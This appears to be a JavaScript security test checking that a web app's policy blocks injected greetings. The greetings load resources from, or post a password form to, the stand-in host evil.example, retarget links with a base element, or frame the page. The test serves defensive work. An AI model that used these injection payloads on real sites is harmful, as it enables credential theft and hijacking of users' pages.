// The policy has more rules than the one for scripts: what a greeting loads or where its form leads.
const kofi = await victim('kofi@kestrel.example');
await kofi.host({ 'https://evil.example/frame.html': '<p>Hello</p>', 'https://evil.example/s.css': 'p { color: red }' });
const loads = ['<img src="https://evil.example/seen.png">', '<iframe src="https://evil.example/frame.html"></iframe>', '<link rel="stylesheet" href="https://evil.example/s.css">'];
for (const html of shuffle(loads)) {
  sql("INSERT INTO greetings (person_id, html) VALUES ('rhea', ?)", html);
  await kofi.visit(pick(['/', '/studio']));
}
sql("INSERT INTO greetings (person_id, html) VALUES ('rhea', ?)", '<form id="more" method="post" action="https://evil.example/take"><input name="password"><button>More</button></form>');
const page = await kofi.visit('/studio');
if (page.all('#more').length > 0) await kofi.submit('#more', { password: 'x' });
sql(
  "INSERT INTO greetings (person_id, html) VALUES ('rhea', ?)",
  '<base href="https://evil.example/">',
);
await kofi.visit('/');
await kofi.click('a.brand');
await kofi.visitAttacker('<iframe src="https://app.test/studio"></iframe>');
blocked('framed', 'the studio can be shown in a frame of another site');
const left = events('outgoing').filter(({ by, host }) => by === 'page' && host === 'evil.example');
expect(left.map(({ url }) => url), 'a greeting loaded something from another host, or sent something there').toBeEmpty();
// A base element would lead every address of the page to another host, and a frame would show the page on one.
sql("INSERT INTO greetings (person_id, html) VALUES ('rhea', ?)", '<base href="https://evil.example/">');
const based = await kofi.visit('/');
expect(based.find('#now').text, 'a greeting changed where the addresses of the page lead').toBe('Paper Lanterns, Ada Quill');
await kofi.visitAttacker('<iframe src="https://app.test/"></iframe>');
blocked('framed', 'the page was shown in a frame on another host');
